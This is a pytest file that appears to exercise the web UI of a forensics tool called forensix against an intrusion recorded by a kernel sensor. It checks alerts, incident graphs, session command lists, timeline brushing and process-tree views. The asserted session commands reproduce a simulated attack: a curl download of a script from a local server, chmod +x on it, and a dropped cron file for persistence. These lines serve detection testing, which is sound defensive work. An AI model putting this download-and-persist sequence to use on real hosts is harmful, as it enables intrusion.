"""The UI in a real chromium, on an intrusion recorded by the real sensor (see conftest).

What an investigator would check: the alert is listed and opens its incident, whose graph
holds the download and the cron file; the session lists the commands typed; the timeline
filters; the process tree, file history and search find the intruder's work; and while
the recording runs, the alert appears without a reload. Screenshots of every view go to
build/web-screenshots/.
"""

from __future__ import annotations

import json
import time
import urllib.parse
import urllib.request
from typing import Any

import pytest

from forensix.model.timefmt import parse_time

from .conftest import SHOTS, Scenario, open_view, shot

pytestmark = pytest.mark.bpf


def _api(sc: Scenario, path: str) -> Any:
    with urllib.request.urlopen(sc.ui.url + path, timeout=60) as r:
        return json.load(r)


def _cron_alert(sc: Scenario) -> dict[str, Any]:
    alerts = _api(sc, "/alerts.json?limit=1000")["alerts"]
    mine = [a for a in alerts if sc.tag in (a["summary"] or "") and "cron" in (a["rule_title"] or "").lower()]
    assert mine, [(a["rule_title"], a["summary"]) for a in alerts]
    return mine[0]


def _session(sc: Scenario) -> dict[str, Any]:
    rows = _api(sc, "/sessions.json?kind=login&limit=1000")["sessions"]
    mine = [s for s in rows if s["user_id"] == 4343]
    assert len(mine) == 1, rows
    return mine[0]


def test_live_alert_appears_without_reload(scenario: Scenario, page: Any) -> None:
    """While `forensix record` runs, the overview shows the cron alert without a reload."""
    open_view(page, scenario.ui.url + "/overview", "overview")
    page.evaluate("window.__noReload = 1")
    scenario.go()
    page.wait_for_function(
        "document.querySelector('#live').textContent.includes('live:')"
        " && [...document.querySelectorAll('main table a')].some(a => /cron/i.test(a.textContent))",
        timeout=30_000)
    assert page.evaluate("window.__noReload") == 1  # drawn again in place, not reloaded
    assert page.get_attribute("#live", "data-via") == "sse"  # pushed by the server, not polled
    shot(page, "overview-live")


def test_alert_listed_and_opens_its_incident(recorded: Scenario, page: Any) -> None:
    alert = _cron_alert(recorded)
    open_view(page, recorded.ui.url + "/alerts?" + urllib.parse.urlencode({"level": alert["rule_level"]}), "alerts")
    row = page.locator("table.alerts tr", has_text=recorded.cron).first
    assert "cron" in row.inner_text().lower()
    shot(page, "alerts")
    row.get_by_role("link", name="incident »").click()
    page.wait_for_selector("main[data-loaded=incident]", timeout=60_000)
    page.wait_for_function("typeof cy !== 'undefined' && cy !== null && cy.nodes().length > 0", timeout=30_000)
    labels = page.evaluate("cy.nodes().map(n => n.data('label'))")
    work = str(recorded.work)
    assert f"{work}/x.sh" in labels, labels  # the download
    assert recorded.cron in labels, labels  # the dropped cron file
    assert any(lab.startswith("curl ") for lab in labels), labels
    assert any(f"127.0.0.1:{recorded.hport}" in lab for lab in labels), labels  # where it came from
    page.wait_for_selector("text=Persistence touched", timeout=60_000)  # the report's part
    assert recorded.cron in page.inner_text("main")  # the report lists the persistence
    assert page.get_attribute("main", "data-graph-form") == "compact"  # the default (test_web_incident_graph_bpf)
    shot(page, "incident")
    page.locator("#graph").screenshot(path=str(SHOTS / "incident-graph.png"))

    # a node's panel: jump to its events
    page.evaluate(f"cy.nodes().filter(n => n.data('label') === {json.dumps(recorded.cron)}).emit('tap') && null")
    page.locator(".node-panel").get_by_role("link", name="events").click()
    page.wait_for_selector("main[data-loaded=timeline]", timeout=30_000)
    assert recorded.cron in page.inner_text("table.events")


def test_incident_graph_expands_and_hides(recorded: Scenario, page: Any) -> None:
    open_view(page, recorded.ui.url + "/incident?" + urllib.parse.urlencode({"target": recorded.cron, "depth": 2}),
              "incident")
    page.wait_for_function("cy && cy.nodes().length > 0")
    labels = page.evaluate("cy.nodes().map(n => n.data('label'))")
    assert not any(lab.startswith("curl ") for lab in labels), labels  # two hops: the script, not its writer
    # expand the downloaded script backward: its writer, curl, joins the graph
    script = json.dumps(f"{recorded.work}/x.sh")
    page.evaluate(f"cy.nodes().filter(n => n.data('label') === {script}).emit('tap') && null")
    page.locator(".node-panel").get_by_role("button", name="expand backward").click()
    page.wait_for_function("cy.nodes().some(n => (n.data('label') || '').startsWith('curl '))", timeout=30_000)
    # hide the files: none drawn
    page.locator(".graph-controls label", has_text="file").locator("input").uncheck()
    assert page.evaluate("cy.nodes(\"[kind = 'file']\").filter(n => n.style('display') !== 'none').length") == 0
    shot(page, "incident-expanded")


def test_session_shows_its_tree_and_commands(recorded: Scenario, page: Any) -> None:
    s = _session(recorded)
    open_view(page, recorded.ui.url + "/sessions?kind=login", "sessions")
    page.get_by_role("link", name=s["description"]).first.click()
    page.wait_for_selector("main[data-loaded=session]", timeout=30_000)
    commands = page.inner_text("table.commands")
    assert f"curl -s -o {recorded.work}/x.sh http://127.0.0.1:{recorded.hport}/x.sh" in commands
    assert f"chmod +x {recorded.work}/x.sh" in commands
    assert f"cp /usr/bin/id /tmp/{recorded.tag}-copied" in commands
    page.wait_for_selector("text=Files written", timeout=30_000)  # the session's second part
    assert recorded.cron in page.inner_text("main")
    # a process's details beside the tree: argv, cwd, files
    page.locator(".ptree a", has_text="curl").first.click()
    page.wait_for_selector(".side .details", timeout=30_000)
    details = page.inner_text(".side .details")
    assert f"{recorded.work}/x.sh" in details and str(recorded.work) in details
    # the panel is ~30% wide: times and uids stay whole (a seven-column table broke them mid-number)
    broken = page.evaluate("""[...document.querySelectorAll('.side .details .when, .side .details .ids')]
        .filter(e => e.getClientRects().length !== 1).map(e => e.textContent)""")
    assert page.locator(".side .details .when").count() >= 2 and broken == [], broken
    shot(page, "session")


def test_timeline_filters(recorded: Scenario, page: Any) -> None:
    s = _session(recorded)
    q = urllib.parse.urlencode({"session": s["leader_entity_id"], "category": "network"})
    open_view(page, recorded.ui.url + "/timeline?" + q, "timeline")
    cats = page.locator("table.events tbody tr td:nth-child(2)").all_inner_texts()
    assert cats and set(cats) == {"network"}, cats
    text = page.inner_text("table.events")
    assert f"127.0.0.1:{recorded.hport}" in text and f"127.0.0.1:{recorded.lport}" in text
    shot(page, "timeline-network")
    # the form narrows further: a path filter through the page's own form
    open_view(page, recorded.ui.url + "/timeline?" + urllib.parse.urlencode({"session": s["leader_entity_id"]}),
              "timeline")
    page.fill("input[name=path]", recorded.tag)
    page.get_by_role("button", name="apply").click()
    page.wait_for_url(lambda u: "path=" in u)
    page.wait_for_selector("main[data-loaded=timeline]")
    rows = page.locator("table.events tbody tr").all_inner_texts()
    assert rows and all(recorded.tag in r for r in rows), rows
    # the brush: a drag over the chart's first half sets the window to the buckets it
    # touched. The events it was drawn over are in it (those of the first bucket: the
    # chart starts at the first event); the last event (the last bucket) is not. (A drag
    # over a fixed middle share held no events whenever the intrusion's file events came
    # only at its start and end; a window cut at the brush's ms rounded events away.)
    hist = _api(recorded, "/timeline.json?" + urllib.parse.urlencode(
        {"session": s["leader_entity_id"], "path": recorded.tag, "part": "histogram"}))["histogram"]
    box = page.locator(".chart .u-over").bounding_box()
    assert box is not None
    page.mouse.move(box["x"] + 2, box["y"] + 20)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] * 0.5, box["y"] + 20, steps=5)
    page.mouse.up()
    page.wait_for_url(lambda u: "from=" in u and "to=" in u, timeout=10_000)
    page.wait_for_selector("main[data-loaded=timeline]", timeout=30_000)
    page.wait_for_selector(".chart .u-over", timeout=30_000)  # the narrowed window's chart
    window = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(page.url).query))
    t0, width = int(hist["from_ns"]), int(hist["bucket_ns"])
    assert parse_time(window["from"]) == t0, window  # whole buckets, to the ns
    last = (parse_time(window["to"]) + 1 - t0) // width  # buckets 0 .. last-1 brushed
    assert (parse_time(window["to"]) + 1 - t0) % width == 0 and 1 <= last < len(hist["count"]), window
    narrowed = page.locator("table.events tbody tr").all_inner_texts()
    assert len(narrowed) == sum(hist["count"][:last]) and hist["count"][0] > 0, (narrowed, hist["count"])
    assert narrowed == rows[:len(narrowed)] and rows[-1] not in narrowed, (narrowed, rows)
    shot(page, "timeline-brushed")


def test_tree_file_search_and_process(recorded: Scenario, page: Any) -> None:
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 5))
    open_view(page, recorded.ui.url + "/tree?" + urllib.parse.urlencode({"at": now, "limit": 1000}), "tree")
    shot(page, "tree")
    open_view(page, recorded.ui.url + "/file?" + urllib.parse.urlencode({"path": recorded.cron}), "file")
    text = page.inner_text("main")
    assert "created/opened O_CREAT" in text or "opened for writing" in text, text[:800]
    shot(page, "file")
    page.fill("#q", f"/tmp/{recorded.tag}")
    page.press("#q", "Enter")
    page.wait_for_selector("main[data-loaded=search]")
    assert f"/tmp/{recorded.tag}-copied" in page.inner_text("main")
    shot(page, "search")
    open_view(page, recorded.ui.url + "/search?" + urllib.parse.urlencode({"q": "chmod +x"}), "search")
    page.get_by_role("link", name="/usr/bin/chmod", exact=False).first.click()
    page.wait_for_selector("main[data-loaded=process]")
    assert "chmod +x" in page.inner_text("main")
    shot(page, "process")


def test_tree_at_a_time_keeps_exited_processes(recorded: Scenario) -> None:
    """The tree at a time after the intrusion still holds curl, which had exited by then."""
    s = _session(recorded)
    later = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 60))
    t = _api(recorded, "/tree.json?" + urllib.parse.urlencode({"at": later, "session": s["leader_entity_id"]}))
    curl = [p for p in t["processes"] if (p["executable"] or "").endswith("/curl")]
    assert curl and curl[0]["end_ts"] is not None
    alive = _api(recorded, "/tree.json?" + urllib.parse.urlencode(
        {"at": later, "session": s["leader_entity_id"], "alive": 1}))
    assert not [p for p in alive["processes"] if (p["executable"] or "").endswith("/curl")]
